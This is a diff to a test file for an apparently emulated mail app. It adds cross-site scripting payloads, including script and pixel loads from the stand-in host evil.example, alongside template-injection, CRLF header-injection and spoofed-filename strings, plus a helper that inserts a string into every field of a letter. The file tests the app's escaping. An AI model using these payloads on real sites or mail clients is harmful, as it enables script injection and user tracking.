@@ -2,6 +2,10 @@
 
 from __future__ import annotations
 
+from tests.apps.emulator.calls import letter
+
+from mailapps.emulator.wire import File, Letter, Mailbox
+
 PAYLOADS = (
     "<script>alert(1)</script>",
     "<ScRiPt src=//evil.example/x.js></ScRiPt>",
@@ -37,4 +41,32 @@ PAYLOADS = (
     "{{7*7}} {% raw %} <%= 7*7 %>",
     "\u202egnp.exe\u0000\x1b[31m",
     "a\r\nSet-Cookie: x=1",
+    "<template><script>alert(1)</script></template>",
+    "<xmp><img src=x onerror=alert(1)></xmp><plaintext>",
+    "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<a href='data:text/html,<script>alert(1)</script>' target=_top>x</a>",
+    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>#x'>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
+    "<img src=http://evil.example/pixel srcset='http://evil.example/set 1x' style='background:url(http://evil.example/css)'>",
+    "<script type=module>import 'http://evil.example/x.js'</script>",
+    "<p id=main name=location>x</p><form name=getElementById></form>",
 )
+
+
+def everywhere(text: str) -> Letter:
+    """Return a letter that says this wherever a letter can say something."""
+    return letter(
+        from_=Mailbox(text, text),
+        to=(Mailbox(text, text), Mailbox(text)),
+        cc=(Mailbox(text, text),),
+        bcc=(Mailbox(text),),
+        reply_to=(Mailbox(text),),
+        subject=text,
+        text=text,
+        html=text,
+        headers=((text, text),),
+        tags=(text,),
+        metadata=((text, text), ("mailcore_id", text)),
+        files=(File(filename=text, content_type=text, content=b"x", content_id=text),),
+    )
